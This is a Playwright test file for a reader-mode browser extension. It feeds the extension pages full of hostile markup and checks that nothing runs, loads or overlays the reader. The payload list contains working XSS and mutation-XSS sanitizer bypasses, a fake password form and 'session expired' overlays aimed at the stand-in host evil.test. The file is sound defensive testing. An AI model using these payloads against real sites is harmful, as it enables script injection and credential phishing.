import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import type { LecternBrowser } from '@/scripts/browser/launch-lectern';
import { expect, type LecternPage, test } from '../support/lectern-test';
import { openReader } from '../support/open-reader';

const SHARED = resolve(import.meta.dirname, '../../../../shared/security/payloads.json');

/** Hostile markup of our own: one example of each kind. */
const OWN = [
  '<img src=x onerror="globalThis.stolen = 1">',
  '<svg><script>globalThis.stolen = 1</script></svg>',
  '<a href="javascript:globalThis.stolen=1">press</a>',
  '<a href="java&#10;script:globalThis.stolen=1">press</a>',
  '<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>',
  '<form action="https://evil.test/"><input name="password" type="password"><button>Log in</button></form>',
  '<div style="position:fixed;inset:0;background:#fff;z-index:9">Your session expired</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror="globalThis.stolen = 1"></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.stolen=1>"></noscript>',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<dialog open>Overlay</dialog><style>* { display: none }</style><link rel="stylesheet" href="https://evil.test/x.css">',
  '<video src="https://evil.test/v" autoplay poster="https://evil.test/p"></video>',
  '<math href="javascript:globalThis.stolen=1"><mi xlink:href="javascript:globalThis.stolen=1" onclick="globalThis.stolen = 1">x</mi></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror="globalThis.stolen = 1"></annotation-xml></math>',
  '<math><mtext><p id="app" style="position:fixed">over</p><img src=x onerror="globalThis.stolen = 1"></mtext></math>',
  '<math style="position:fixed;inset:0"><mspace width="999em" height="999em"></mspace><maction actiontype="statusline"><mi>y</mi></maction></math>',
  '<p>\\(\\href{javascript:globalThis.stolen=1}{x}\\) \\(\\def\\a{\\a\\a}\\a\\)</p>',
  '<details open ontoggle="globalThis.stolen = 1"><summary style="position:fixed;inset:0">Your session expired</summary>more</details>',
  '<p id="app" name="body" class="popup">named like our own parts</p>',
];

const story = (number: number) =>
  `<p>On night ${number} the boat leaves at twenty past nine, or a little after if someone is seen running along the quay with a bicycle and a box of seedlings.</p>`;

/**
 * An article with hostile markup in its metadata, among its paragraphs and in a caption. Unclosed markup swallows what
 * follows it, so most of the story comes before.
 */
function hostilePage(pieces: readonly string[]): string {
  const escaped = pieces.map((piece) => piece.replace(/"/g, '&quot;'));
  return `<!doctype html><html><head><meta charset="utf-8"><title>A hostile page</title>
<meta property="og:title" content="A hostile page"><meta property="og:type" content="article">
<meta name="author" content="${escaped[0]}"><meta name="description" content="${escaped[1]}"></head>
<body><article><h1>A hostile page</h1>${[90, 91, 92, 93, 94].map(story).join('')}
${pieces.map((piece, index) => `${piece}${story(index)}`).join('\n')}
<figure><img src="https://evil.test/lead.jpg" alt="${escaped[2]}"><figcaption>A caption with ${pieces[0]} in it</figcaption></figure>
</article></body></html>`;
}

/** The popup's own markup forbids players. */
const NO_PLAYERS = `<meta http-equiv="Content-Security-Policy" content="frame-src 'none'; media-src 'none'">`;

/** Opens a page in the popup and checks for anything that should not be there. */
async function expectHarmless(
  lectern: LecternBrowser,
  page: LecternPage,
  html: string,
): Promise<void> {
  const beacons: string[] = [];
  await page.context().route('**://evil.test/**', (route) => {
    if (route.request().frame().url().startsWith('chrome-extension:'))
      beacons.push(`${route.request().resourceType()} ${route.request().url()}`);
    // Status 204 keeps the page: some inputs navigate away.
    return route.fulfill({ status: 204 });
  });
  const policy = "script-src 'none'; frame-src 'none'; style-src 'unsafe-inline'";
  await page.route('https://hostile.test/**', (route) =>
    route.fulfill({
      body: html,
      headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy },
    }),
  );
  await page.goto('https://hostile.test/story.html');
  const popup = await lectern.openPopupInTab(page);
  popup.on('dialog', (dialog) => {
    beacons.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await popup.locator('article').waitFor();
  for (const link of await popup.locator('article a').all()) {
    expect(await link.getAttribute('href')).toMatch(/^(?:https?|mailto|tel):/);
  }
  const found = await popup.evaluate(() => ({
    executed: 'stolen' in globalThis,
    active: [
      ...document.querySelectorAll(
        'script:not([src]), iframe, object, embed, form, dialog, style, link[rel=stylesheet][href^="http"], video, audio, base, meta[http-equiv]',
      ),
    ].map((element) => element.outerHTML.slice(0, 120)),
    inputs: [...document.querySelectorAll('input')].filter((input) => input.name !== 'text-size')
      .length,
    handlers: [...document.querySelectorAll('article *')]
      .filter((element) =>
        [...element.attributes].some(
          ({ name, value }) =>
            name.startsWith('on') ||
            // A long article is divided into parts, whose estimated heights are our own.
            (name === 'style' && !/^(?:--(?:characters|blocks|pictures): \d+;\s?)+$/.test(value)) ||
            name === 'id' ||
            name === 'name',
        ),
      )
      .map((element) => element.outerHTML.slice(0, 120)),
    overlays: [...document.querySelectorAll('article *')].filter((element) =>
      /fixed|sticky/.test(getComputedStyle(element).position),
    ).length,
    // Our own button must be the topmost element at its position.
    covered: (() => {
      const save = [...document.querySelectorAll('footer button')][0];
      const box = save?.getBoundingClientRect();
      return box ? !save?.contains(document.elementFromPoint(box.x + 5, box.y + 5)) : true;
    })(),
  }));
  expect(found).toEqual({
    executed: false,
    active: [NO_PLAYERS],
    inputs: 0,
    handlers: [],
    overlays: 0,
    covered: false,
  });
  expect(beacons.filter((beacon) => !beacon.startsWith('image '))).toEqual([]);
  await popup.close();
  await page.context().unroute('**://evil.test/**');
  await page.unroute('https://hostile.test/**');
}

test('hostile markup in an article runs nothing, requests nothing and covers nothing', async ({
  lectern,
  page,
}) => {
  await expectHarmless(lectern, page, hostilePage(OWN));
});

test('every known hostile input is harmless in the popup', async ({ lectern, page }) => {
  test.skip(!existsSync(SHARED), 'the collection of hostile inputs is not available');
  test.setTimeout(180_000);
  const payloads = (JSON.parse(readFileSync(SHARED, 'utf8')) as { html: string }[]).map(
    ({ html }) => html,
  );
  for (let start = 0; start < payloads.length; start += 4) {
    await expectHarmless(lectern, page, hostilePage(payloads.slice(start, start + 4)));
  }
});

test('a page whose policy requires Trusted Types is read like any other', async ({
  page,
  site,
  openArticleInPopup,
}) => {
  await page.route('**/strict.html', async (route) => {
    const body = await (await page.request.get(`${site.origin}/sounding-books.html`)).text();
    const policy = "require-trusted-types-for 'script'; trusted-types 'none'; script-src 'none'";
    await route.fulfill({
      body,
      headers: { 'content-type': 'text/html', 'content-security-policy': policy },
    });
  });
  const violations: string[] = [];
  page.on('console', (message) => violations.push(message.text()));
  const popup = await openArticleInPopup('strict');
  await expect(popup.getByRole('heading', { level: 1 })).toHaveText(/Reading water/);
  await expect(popup.locator('figure')).toHaveCount(2);
  expect(violations.filter((text) => /Trusted/.test(text))).toEqual([]);
});

test('over a page without a policy, no hostile markup enters the reader', async ({
  lectern,
  page,
}) => {
  await page.context().route('**://evil.test/**', (route) => route.fulfill({ status: 204 }));
  await page.route('https://hostile.test/**', (route) =>
    route.fulfill({ body: hostilePage(OWN), contentType: 'text/html; charset=utf-8' }),
  );
  await page.goto('https://hostile.test/story.html');
  const reader = await openReader(lectern, page);
  await expect(reader.locator('article')).toContainText('On night 90 the boat leaves');
  const found = await reader.evaluate(() => ({
    executed: 'stolen' in globalThis,
    active: [
      ...document.querySelectorAll(
        'article :is(script, iframe, object, embed, form, dialog, style, link, video, audio, base, meta, input)',
      ),
    ].map((element) => element.outerHTML.slice(0, 120)),
    handlers: [...document.querySelectorAll('article *')]
      .filter((element) =>
        [...element.attributes].some(({ name }) => /^(?:on|id$|name$)/.test(name)),
      )
      .map((element) => element.outerHTML.slice(0, 120)),
    links: [...document.querySelectorAll('article a')]
      .map((link) => link.getAttribute('href') ?? '')
      .filter((address) => !/^(?:https?|mailto|tel):/.test(address)),
  }));
  expect(found).toEqual({ executed: false, active: [], handlers: [], links: [] });
  await page.context().unroute('**://evil.test/**');
});
